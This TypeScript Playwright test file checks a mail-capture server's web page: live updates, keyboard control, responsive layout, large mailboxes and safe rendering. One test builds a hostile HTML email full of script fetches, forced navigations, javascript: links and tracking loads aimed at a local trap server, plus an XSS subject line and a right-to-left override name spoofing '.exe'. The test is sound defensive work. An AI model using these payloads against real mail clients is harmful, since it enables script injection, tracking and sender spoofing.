// The page of captured mail in Debian's Chromium: it is live, can be searched and used by keyboard, at 360 and at 1280
// pixels; it stays usable with thousands of messages and with huge ones; and it runs nothing of a mail's and lets no
// request of a mail's out. With PICTURES=FOLDER it also keeps the pictures that the docs show.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { after, before, beforeEach, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { deliver, dial, eventually } from './client.ts';
import { openStage } from './compose-lib.ts';
import { type Capture, openPage, rows, samples, startBrowser, startCapture } from './page-lib.ts';

const stage = openStage(after);
let browser: Browser;
let server: Capture;
before(async () => {
  browser = await startBrowser(stage.own);
  server = await startCapture(stage.own, { SLIM_CAPTURE_KEEP: '6000' });
});
beforeEach(async () => {
  await fetch(`${server.url}/api/v1/messages`, { method: 'DELETE' });
});

/** Keeps what is seen, where the run is to make the pictures of the docs. */
async function picture(page: Page, name: string): Promise<void> {
  const folder = process.env['PICTURES'];
  if (folder !== undefined) await page.screenshot({ path: join(folder, `${name}.png`) });
}

const plain = (number: number) => ({
  from: 'a@example.com',
  to: `to${number}@example.com`,
  subject: `Message ${number}`,
  text: `Text ${number}`,
});
const subjects = (page: Page) => rows(page).locator('.subject').allInnerTexts();

test('a message shows up by itself, the newest first; it is unread until it is opened', async () => {
  const { page, complaints, close } = await openPage(browser, server.url);
  await page.getByText('No messages yet').waitFor();
  await server.send(plain(1));
  await rows(page).first().waitFor();
  await server.send(plain(2));
  await page.getByText('2 messages, 2 unread').waitFor();
  assert.deepEqual(await subjects(page), ['Message 2', 'Message 1']);
  await rows(page).getByText('Message 1').click();
  await page.locator('#message h1', { hasText: 'Message 1' }).waitFor();
  await page.locator('pre', { hasText: 'Text 1' }).waitFor();
  await page.getByText('2 messages, 1 unread').waitFor();
  assert.equal(await page.title(), '(1) SlimSMTP');
  assert.deepEqual(complaints, []);
  await close();
});

for (const scheme of ['light', 'dark'] as const)
  for (const width of [1280, 360])
    test(`at ${width} px, ${scheme}: list, message, and nothing that sticks out`, async () => {
      await server.send(...samples);
      const { page, complaints, close } = await openPage(browser, server.url, {
        width,
        height: width === 360 ? 720 : 800,
        scheme,
      });
      await rows(page).nth(6).waitFor();
      const overflow = () => page.evaluate<number>('document.documentElement.scrollWidth - innerWidth');
      assert.ok((await overflow()) <= 0);
      if (width === 360) await picture(page, `list-${width}-${scheme}`);
      await page.getByText('Welcome to Example Shop').click();
      await page.frameLocator('iframe').getByText('Welcome aboard').waitFor();
      const logo = page.frameLocator('iframe').locator('img').first();
      await eventually(
        'the picture of the mail is there',
        () => logo.evaluate(it => 'naturalWidth' in it && Number(it.naturalWidth) > 0),
        5000,
      );
      assert.ok((await overflow()) <= 0);
      await picture(page, `message-${width}-${scheme}`);
      for (const name of ['Text', 'Headers', 'Source', 'Attachments', 'Checks']) {
        await page.getByRole('tab', { name }).click();
        await page.locator('[role=tabpanel] > *').first().waitFor();
        assert.ok((await overflow()) <= 0, name);
      }
      if (width === 360) {
        await page.getByRole('button', { name: 'Messages' }).click();
        await rows(page).nth(6).waitFor();
      }
      assert.deepEqual(complaints, []);
      await close();
    });

test('by keyboard: next, views, unread, search, delete, leave', async () => {
  await server.send(plain(1), plain(2), plain(3));
  const { page, close } = await openPage(browser, server.url);
  await rows(page).nth(2).waitFor();
  const title = page.locator('#message h1');
  await page.keyboard.press('j');
  await title.filter({ hasText: 'Message 3' }).waitFor();
  await page.keyboard.press('j');
  await title.filter({ hasText: 'Message 2' }).waitFor();
  await page.keyboard.press('4');
  await page.locator('pre', { hasText: 'Received: from' }).waitFor();
  assert.match(page.url(), /#\/[^/]+\/source$/);
  await page.getByText('3 messages, 1 unread').waitFor();
  await page.keyboard.press('u');
  await page.getByText('3 messages, 2 unread').waitFor();
  await page.keyboard.press('Delete');
  await page.getByText('2 messages').waitFor();
  await title.filter({ hasText: 'Message 1' }).waitFor();
  await page.keyboard.press('Escape');
  await page.getByText('No message is open.').waitFor();
  await page.keyboard.press('/');
  await page.keyboard.type('subject:"Message 3"');
  await page.getByText('1 found').waitFor();
  assert.deepEqual(await subjects(page), ['Message 3']);
  await page.keyboard.press('Escape');
  await page.getByText('2 messages').waitFor();
  await close();
});

test('an address opens its message and view, Back leaves it, and one that is gone says so', async () => {
  await server.send(plain(1));
  const { messages } = (await (await fetch(`${server.url}/api/v1/messages`)).json()) as { messages: { ID: string }[] };
  const { page, close } = await openPage(browser, `${server.url}/#/${messages[0]?.ID}/headers`);
  await page
    .locator('th', { hasText: 'Message-Id' })
    .or(page.locator('th', { hasText: 'Message-ID' }))
    .first()
    .waitFor();
  await page.keyboard.press('Escape');
  await rows(page).first().click();
  await page.locator('#message h1').waitFor();
  await page.goBack();
  await page.getByText('No message is open.').waitFor();
  await page.goto(`${server.url}/#/nosuchmessage`);
  await page.getByRole('alert').waitFor();
  await close();
});

test('a search shows and deletes what it finds alone; deleting all asks first', async () => {
  await server.send(plain(1), plain(2), { ...plain(3), to: 'other@example.net' });
  const { page, close } = await openPage(browser, server.url);
  await page.getByRole('searchbox').fill('to:other@example.net');
  await page.getByText('1 found').waitFor();
  await page.getByRole('button', { name: 'Delete these' }).click();
  await page.getByRole('button', { name: 'Delete', exact: true }).click();
  await page.getByText('Nothing found').waitFor();
  await page.getByRole('searchbox').fill('');
  await page.getByText('2 messages').waitFor();
  await page.getByRole('button', { name: 'Delete all' }).click();
  await page.getByRole('button', { name: 'Cancel' }).click();
  assert.equal(await rows(page).count(), 2);
  await page.getByRole('button', { name: 'Delete all' }).click();
  await page.getByRole('button', { name: 'Delete', exact: true }).click();
  await page.getByText('No messages yet').waitFor();
  await close();
});

/** Many small messages in one session, numbered from `first`. */
async function sendMany(port: number, first: number, count: number): Promise<void> {
  const client = await dial(port);
  for (let number = first; number < first + count; number++) {
    client.send(`MAIL FROM:<a@example.com>\r\nRCPT TO:<to${number}@example.com>\r\nDATA\r\n`);
    for (const code of ['250', '250', '354']) assert.ok((await client.say()).startsWith(code));
    const text = `From: a@example.com\r\nTo: to${number}@example.com\r\nSubject: Message ${number}\r\n\r\nText ${number}`;
    assert.match(await client.say(`${text}\r\n.`), /^250/);
  }
  client.socket.destroy();
}

test('with 5,000 messages it draws only what is in view, and what is read stays in its place', async () => {
  await Promise.all([0, 1, 2, 3].map(lane => sendMany(server.smtpPort, lane * 1250, 1250)));
  const began = performance.now();
  const { page, close } = await openPage(browser, server.url);
  await page.getByText('5,000 messages').waitFor();
  await rows(page).first().waitFor();
  const shownMs = performance.now() - began;
  assert.ok(shownMs < 10_000, `${shownMs} ms`);
  await page.keyboard.press('j');
  await page.keyboard.press('End');
  await page.locator('#row-4999:not(.later)').waitFor();
  assert.ok((await page.locator('.row').count()) < 60);
  // Somewhere in the middle, while mail comes in.
  await page.locator('#rows').evaluate((box, top) => box.scrollTo(0, top), 2500 * 76);
  await page.locator('#row-2500:not(.later)').waitFor();
  const readMessage = await page.locator('#row-2500 .subject').innerText();
  await server.send(plain(5001), plain(5002), plain(5003));
  await page.getByText('5,003 messages').waitFor();
  assert.equal(await page.locator('#row-2503 .subject').innerText(), readMessage);
  const top = await page
    .locator('#row-2503')
    .evaluate(row => row.getBoundingClientRect().top - (row.closest('#rows')?.getBoundingClientRect().top ?? 0));
  assert.ok(Math.abs(top) < 76, `${top}`);
  await close();
});

test('names and subjects in Arabic, Hebrew and emoji stay within their place', async () => {
  const override = '\u202Eexe.gnp'; // RIGHT-TO-LEFT OVERRIDE: a name that would turn round what follows
  await server.send(...samples, { ...plain(1), from: { name: override, address: 'x@example.com' } });
  const { page, close } = await openPage(browser, server.url);
  const row = rows(page).filter({ hasText: 'مرحبًا' });
  await row.locator('.subject:dir(rtl)').waitFor();
  await row.locator('time:dir(ltr)').waitFor();
  await rows(page).filter({ hasText: 'You are invited' }).click();
  await page.locator('#message h1', { hasText: '🎈 You are invited 🎂🥳' }).waitFor();
  // The name turns nothing round but itself: the arrow and the recipient stand right of it.
  const [name, recipient] = await Promise.all(
    [0, 1].map(index => page.locator('#row-0 .who bdi').nth(index).boundingBox()),
  );
  assert.ok(name && recipient && name.x + name.width < recipient.x);
  await close();
});

test('a message with 30 MB of attachments and a huge table opens at once, and can be downloaded whole', async () => {
  const cells = '<tr>' + '<td>cell</td>'.repeat(50) + '</tr>';
  const html = `<table border=1>${cells.repeat(2000)}</table>`;
  const content = Buffer.alloc(30_000_000, 'all work and no play ');
  await server.send({ ...plain(1), html, attachments: [{ filename: 'large.bin', content }] });
  const { page, close } = await openPage(browser, server.url);
  const began = performance.now();
  await rows(page).first().click();
  await page.frameLocator('iframe').locator('td').first().waitFor();
  await page.getByRole('tab', { name: 'Source' }).click();
  await page.getByText('Only the beginning is shown.').waitFor();
  await page.getByRole('tab', { name: 'Attachments' }).click();
  await page.getByText('large.bin').waitFor();
  const tookMs = performance.now() - began;
  assert.ok(tookMs < 30_000, `${tookMs} ms`);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: 'Download' }).last().click(),
  ]);
  assert.ok((await buffer(await download.createReadStream())).equals(content));
  await close();
});

/** A server of somebody else, which counts who comes. */
async function trap() {
  const seen: string[] = [];
  let connections = 0;
  const http = createServer((request, response) => {
    seen.push(request.url ?? '');
    response.setHeader('Content-Type', request.url === '/style.css' ? 'text/css' : 'image/svg+xml');
    response.end('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>');
  });
  http.on('connection', () => (connections += 1)).listen(0, '127.0.0.1');
  await once(http, 'listening');
  stage.own(async () => http.close());
  return { url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`, seen, connections: () => connections };
}

const hostile = (at: string) => `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${at}/refresh"><META name=referrer content=unsafe-url>
<link rel="stylesheet" href="${at}/style.css"><link rel=preconnect href="${at}"><LINK/rel=prefetch href="${at}/prefetch"><link rel="icon" href="${at}/icon">
<link rel=preload as=image href="${at}/preload"><link rel=modulepreload href="${at}/module"><link rel=dns-prefetch href="//leak.example.net">
<base href="${at}/"><script src="${at}/script"></script><script>fetch('${at}/fetch'); parent.document.title = 'taken'; top.location = '${at}/top';</script>
<style>@import url(${at}/import.css); @font-face { font-family: trap; src: url(${at}/font) } body { background: url(${at}/background); font-family: trap }</style>
</head><body background="${at}/body" onload="location='${at}/onload'">
<img src="${at}/img" srcset="${at}/srcset 2x" onerror="location='${at}/onerror'"><picture><source srcset="${at}/source"><img src="relative"></picture>
<svg width="9" height="9"><image href="${at}/svg" /><use href="${at}/use#x" /><script>fetch('${at}/svg-script')</script></svg>
<video poster="${at}/poster" src="${at}/video" autoplay></video><audio src="${at}/audio" autoplay></audio>
<iframe src="${at}/frame"></iframe><iframe srcdoc="<script>fetch('${at}/srcdoc')</script><img src='${at}/srcdoc-img'>"></iframe>
<object data="${at}/object"></object><embed src="${at}/embed"><frameset><frame src="${at}/frameset"></frameset>
<form action="${at}/form"><input type=image src="${at}/input"><button id=send>Send</button></form>
<a id=run href="javascript:fetch('${at}/javascript')">Run</a>
<div style="background-image: url(${at}/css)"></div><img src="/api/v1/messages"><img src=x style="content: url(${at}/content)">
<p>the end</p></body></html>`;

test('HTML runs nothing and loads nothing; what the reader asks for is loaded, and still runs nothing', async () => {
  const { url, seen, connections } = await trap();
  await server.send({
    ...plain(1),
    subject: '<img src=x onerror=alert(1)>',
    html: hostile(url),
    text: `<script>fetch('${url}/text')</script>`,
  });
  const { page, close } = await openPage(browser, server.url);
  await rows(page).first().click();
  const frame = page.frameLocator('iframe');
  await frame.getByText('the end').waitFor();
  for (const id of ['run', 'send']) {
    await frame.locator(`#${id}`).click();
    await page.waitForTimeout(150);
    // One that left the mail would come back.
    await page.getByRole('tab', { name: 'Text' }).click();
    await page.getByRole('tab', { name: 'HTML' }).click();
    await frame.getByText('the end').waitFor();
  }
  for (const view of ['2', '3', '4', '5', '6', '1']) {
    await page.keyboard.press(view);
    await page.locator('[role=tabpanel] > *').first().waitFor();
  }
  await page.waitForTimeout(500);
  assert.equal(connections(), 0, seen.join());
  assert.equal(await page.title(), 'SlimSMTP');
  assert.ok(page.url().startsWith(server.url));

  await page.getByRole('button', { name: 'Load it' }).click();
  await eventually(
    'pictures and styles are loaded',
    async () => ['/img', '/style.css', '/background'].every(path => seen.includes(path)),
    5000,
  );
  await page.waitForTimeout(500);
  const mayBe =
    /^\/(?:img|srcset|source|relative|style\.css|import\.css|font|background|body|svg|poster|input|css|content|icon|preload|prefetch|video|audio)$/;
  assert.deepEqual(
    seen.filter(path => !mayBe.test(path)),
    [],
  );
  assert.equal(await page.title(), 'SlimSMTP');
  await close();
});

test('the HTML alone, opened as a page of its own, is as powerless', async () => {
  const { url, connections } = await trap();
  await server.send({ ...plain(1), html: hostile(url) });
  const { messages } = (await (await fetch(`${server.url}/api/v1/messages`)).json()) as { messages: { ID: string }[] };
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${server.url}/view/${messages[0]?.ID}.html`);
  await page.getByText('the end').waitFor();
  await page.waitForTimeout(500);
  assert.equal(connections(), 0);
  assert.match(page.url(), /\/view\//);
  await context.close();
});

test('it finds its server again, and what came meanwhile', async () => {
  const { page, close } = await openPage(browser, server.url);
  await server.restart();
  assert.match(await deliver(server.smtpPort, ['late@example.com'], 'Subject: while away\r\n\r\n'), /^250/);
  await page.getByText('while away').waitFor({ timeout: 15_000 });
  await page.locator('#live.on').waitFor();
  await close();
});
